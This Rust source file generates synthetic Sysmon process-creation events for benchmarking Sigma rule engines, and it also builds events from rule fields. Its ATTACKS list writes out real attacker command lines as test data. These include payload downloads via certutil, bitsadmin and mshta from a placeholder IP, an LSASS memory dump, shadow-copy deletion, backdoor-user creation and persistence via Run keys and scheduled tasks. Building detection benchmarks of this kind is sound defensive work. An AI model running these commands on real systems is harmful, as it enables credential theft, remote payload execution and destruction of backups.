//! JSON events of Windows process creation under Sysmon's field names, about 1.3 KB each, one in a hundred of them an
//! attack; and small events made of what rules look for, to compare engines with.

use std::fmt::Write;

use rules::{Rule, sigma::rule::Item};
use serde_json::{Map, Value, json};

use crate::corpus::Random;

const USERS: [&str; 5] = ["CORP\\alice", "CORP\\bob", "NT AUTHORITY\\SYSTEM", "CORP\\svc_backup", "WS01\\admin"];
const FOLDERS: [&str; 5] = [
    "C:\\Windows\\System32\\",
    "C:\\Program Files\\Vendor\\App\\",
    "C:\\Users\\alice\\AppData\\Local\\Temp\\",
    "C:\\Windows\\SysWOW64\\",
    "C:\\ProgramData\\Tool\\",
];
const PROGRAMS: [&str; 20] = [
    "svchost.exe",
    "chrome.exe",
    "Teams.exe",
    "msiexec.exe",
    "powershell.exe",
    "cmd.exe",
    "conhost.exe",
    "rundll32.exe",
    "wscript.exe",
    "python.exe",
    "node.exe",
    "backgroundTaskHost.exe",
    "SearchProtocolHost.exe",
    "taskhostw.exe",
    "OUTLOOK.EXE",
    "WINWORD.EXE",
    "explorer.exe",
    "services.exe",
    "certutil.exe",
    "schtasks.exe",
];
const ATTACKS: [&str; 12] = [
    "powershell.exe -nop -w hidden -enc SQBFAFgA",
    "certutil.exe -urlcache -split -f http://198.51.100.9/a.exe a.exe",
    "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
    "whoami /all",
    "vssadmin delete shadows /all /quiet",
    "net user backdoor P@ss /add",
    "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe",
    "schtasks /create /sc minute /tn upd /tr c:\\users\\public\\x.exe",
    "bitsadmin /transfer j http://198.51.100.9/x c:\\x",
    "mshta.exe http://198.51.100.9/a.hta",
    "wmic /node:10.0.0.5 process call create calc.exe",
    "nltest /domain_trusts",
];

fn word(random: &mut Random) -> String {
    let letters = b"abcdefghijklmnopqrstuvwxyz0123456789";
    let length = 4 + random.below(11);
    (0..length).map(|_| char::from(letters[random.below(letters.len() as u64) as usize])).collect()
}

fn pick<'a>(random: &mut Random, list: &[&'a str]) -> &'a str {
    list[random.below(list.len() as u64) as usize]
}

/// One event as a line; `number` is its `EventRecordID`.
pub fn process_creation(random: &mut Random, number: u64) -> String {
    let (folder, program) = (pick(random, &FOLDERS), pick(random, &PROGRAMS));
    let is_attack = random.below(100) == 0;
    let (image, command) = if is_attack {
        let command = pick(random, &ATTACKS).to_owned();
        (format!("C:\\Windows\\System32\\{}", command.split(' ').next().unwrap_or("")), command)
    } else {
        let image = format!("{folder}{program}");
        let mut command = format!("\"{image}\" --type={} /prefetch:{} ", word(random), random.below(10));
        let _written =
            write!(command, "--id={} --dir=\"C:\\Users\\{}\\{}\"", random.number() >> 24, word(random), word(random));
        for _ in 0..6 {
            let _written = write!(command, " --{}={}", word(random), word(random));
        }
        (image, command)
    };
    let guid = format!(
        "{{{:08X}-0000-{:04X}-{:04X}-000000000000}}",
        random.number() as u32,
        random.below(65_536),
        random.below(65_536)
    );
    let hex = |random: &mut Random, digits: usize| -> String {
        (0..digits.div_ceil(16)).map(|_| format!("{:016X}", random.number())).collect::<String>()[..digits].to_owned()
    };
    let hashes = format!("MD5={},SHA256={},IMPHASH={}", hex(random, 32), hex(random, 64), hex(random, 32));
    json!({
        "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "EventRecordID": number,
        "UtcTime": format!("2026-11-24 10:{:02}:{:02}.{:03}", number / 60_000 % 60, number / 1000 % 60, number % 1000),
        "Computer": format!("WS{:03}.corp.example", random.below(200)), "ProcessGuid": guid, "ProcessId": random.below(65_000),
        "Image": image, "FileVersion": format!("10.0.19041.{}", random.below(3000)),
        "Description": format!("Host Process for {program}"), "Product": "Microsoft® Windows® Operating System",
        "Company": "Microsoft Corporation", "OriginalFileName": program, "CommandLine": command, "CurrentDirectory": folder,
        "User": pick(random, &USERS), "LogonGuid": guid, "LogonId": format!("0x{:x}", random.below(1 << 24)),
        "TerminalSessionId": random.below(3), "IntegrityLevel": pick(random, &["Medium", "High", "System"]), "Hashes": hashes,
        "ParentProcessGuid": guid, "ParentProcessId": random.below(65_000),
        "ParentImage": format!("{}{}", pick(random, &FOLDERS), pick(random, &PROGRAMS)),
        "ParentCommandLine": format!("{}{} -k {}", pick(random, &FOLDERS), pick(random, &PROGRAMS), word(random)),
    })
    .to_string()
}

/// An event with most of what a rule looks for, now and then something else; `number` is its field `n`.
pub fn for_rule(rule: &Rule, random: &mut Random, number: u64) -> String {
    let mut items = Vec::new();
    rule.condition.items(&mut |item| items.push(item));
    let mut event = Map::new();
    // A long list of values gives a few.
    let most = items.len().min(12) as u64;
    let share = if items.len() > 12 { 100 * most / items.len() as u64 } else { 85 };
    for item in items {
        if random.below(100) < share.max(5) {
            add(&mut event, item, random);
        }
    }
    event.insert("n".to_owned(), number.into());
    Value::Object(event).to_string()
}

fn add(event: &mut Map<String, Value>, item: &Item, random: &mut Random) {
    let Some((key, value)) = item.written.split_once(": '") else { return };
    let text = value.strip_suffix('\'').unwrap_or(value);
    let is = |modifier: &str| key.split('|').skip(1).any(|known| known == modifier);
    if is("re") || is("exists") || is("fieldref") {
        return;
    }
    let text: String = text.replace("\\*", "\u{1}").replace("\\?", "\u{2}").replace('*', "").replace('?', "x");
    let text = text.replace('\u{1}', "*").replace('\u{2}', "?").replace("\\\\", "\\");
    let text = if is("cidr") { text.split('/').next().unwrap_or("").to_owned() } else { text };
    let around = |random: &mut Random| if random.below(4) == 0 { String::new() } else { word(random) };
    let text = match (is("contains"), is("startswith"), is("endswith")) {
        (true, ..) => format!("{}{text}{}", around(random), around(random)),
        (_, true, _) => format!("{text}{}", around(random)),
        (_, _, true) => format!("{}{text}", around(random)),
        _ => text,
    };
    let text = if random.below(8) == 0 { text.to_uppercase() } else { text };
    let field = item.field.clone().unwrap_or_else(|| "message".to_owned());
    match event.get_mut(&field) {
        Some(Value::String(known)) if is("contains") || item.field.is_none() => *known = format!("{known} {text}"),
        Some(_) if random.below(3) > 0 => {}
        _ => {
            let number = text.parse::<i64>().ok().filter(|_| random.below(2) == 0);
            event.insert(field, number.map_or(Value::String(text), Value::from));
        }
    }
}
